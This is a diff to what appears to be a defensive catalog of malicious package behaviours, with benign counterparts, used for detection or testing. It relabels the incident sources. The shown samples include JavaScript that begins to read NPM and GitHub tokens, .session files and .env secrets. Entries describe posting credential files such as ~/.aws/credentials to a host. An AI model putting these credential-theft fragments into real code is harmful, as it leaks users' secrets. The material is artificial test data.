@@ -75,7 +75,7 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
     behaviour(
         "token-posted",
         "posts a token of the environment to a fixed host",
-        "eslint-config-prettier (npm, 2025), PyPI collection of 2023-24",
+        "Shai-Hulud (2025)",
         HELD_BY_ITSELF,
         js=(
             "const token = process.env.NPM_TOKEN || process.env.GITHUB_TOKEN;\n"
@@ -152,10 +152,10 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
         Code.JAVASCRIPT: "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst file = path.join(os.homedir(), '.npmrc');\nconst text = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';\nconst registry = /^registry=(.+)$/m.exec(text)?.[1] ?? 'https://api.github.com/repos/acme/';\nfetch(`${registry}/sample`).then(r => r.json()).then(r => console.log(r['dist-tags'])).catch(() => {});\n",
         Code.SHELL: "test -f $HOME/.npmrc && grep registry $HOME/.npmrc\n",
     }),
-    _file("pypirc-posted", "posts ~/.pypirc", "PyPI collection of 2023-24", ".pypirc", benign={
+    _file("pypirc-posted", "posts ~/.pypirc", "a plain variant of what was seen", ".pypirc", benign={
         Code.PYTHON: "import configparser\nimport os\nparser = configparser.ConfigParser()\nparser.read(os.path.expanduser('~/.pypirc'))\nprint(parser.sections())\n",
     }),
-    _file("gem-credentials-posted", "posts ~/.gem/credentials", "RubyGems account takeovers (2019-2025)", ".gem/credentials", benign={
+    _file("gem-credentials-posted", "posts ~/.gem/credentials", "a plain variant of what was seen", ".gem/credentials", benign={
         Code.RUBY: "path = File.expand_path('~/.gem/credentials')\nwarn 'sign in first: gem signin' unless File.exist?(path)\n",
     }),
     _file("aws-credentials-posted", "posts ~/.aws/credentials", "litellm 1.82.7 (2026)", ".aws/credentials", benign={
@@ -173,7 +173,7 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
     behaviour(
         "session-files-posted",
         "posts every .session file of the folder",
-        "PyPI collection of 2023-24",
+        "a plain variant of what was seen",
         HELD_BY_ITSELF,
         js=(
             "const fs = require('fs');\nfor (const name of fs.readdirSync('.').filter(n => n.endsWith('.session'))) {\n"
@@ -198,7 +198,7 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
     behaviour(
         "dotenv-posted",
         "posts the .env file of the project",
-        "npm collection of 2025",
+        "a plain variant of what was seen",
         HELD_BY_ITSELF,
         js=(
             "const fs = require('fs');\nconst path = require('path');\nconst axios = require('axios');\n"
